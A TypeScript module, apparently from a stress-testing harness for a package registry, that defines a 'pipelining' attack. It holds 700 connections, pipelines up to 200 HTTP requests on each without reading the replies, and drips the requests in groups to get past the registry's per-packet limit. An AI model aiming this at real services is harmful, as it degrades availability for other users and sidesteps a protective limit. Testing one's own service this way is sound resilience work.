// Requests sent ahead on many connections whose answers nobody reads.
import type { Socket } from 'node:net';
import { type Attack, SCOPE } from '../attack.ts';
import type { Attacker } from '../attacker/attacker.ts';
import { packDensePrime } from '../payloads/dense-prime.ts';

const NAME = `${SCOPE}/pipelined`;
/** Requests in one packet that the registry accepts. */
const AHEAD = 30;

export const pipelining: Attack = {
  name: 'pipelining',
  summary: '700 connections send 200 requests ahead each, at once or in small groups, and read nothing',
  async prepare(attacker) {
    const tarball = packDensePrime(attacker.count(1000), 'p');
    await attacker.mustPublish({ name: NAME, version: '1.0.0', tarball });
  },
  arm(attacker) {
    const requests = [
      `/pack/${NAME}`,
      `/pack/${NAME}/1.0.0`,
      `/pack/${NAME}/1.0.0/tarball`,
      `/-/primes/${NAME}/1.0.0/atoms?limit=100&level=full`,
      `/-/prime/${NAME}/1.0.0`,
      '/search?q=rules',
    ].map((path) => `GET ${path} HTTP/1.1\r\nHost: registry\r\n\r\n`);
    return () =>
      attacker.hold(attacker.count(700), (socket, index) => {
        socket.pause();
        const request = requests[index % requests.length] ?? '';
        if (index % 2 === 0) socket.write(request.repeat(200));
        else sendInGroups(attacker, socket, request);
      });
  },
};

/** The registry closes connections that send too many at once: few at a time, but more and more. */
function sendInGroups(attacker: Attacker, socket: Socket, request: string): void {
  const timer = setInterval(() => socket.write(request.repeat(AHEAD)), 1000);
  socket.write(request.repeat(AHEAD));
  socket.once('close', () => clearInterval(timer));
  attacker.signal.addEventListener('abort', () => clearInterval(timer), { once: true });
}
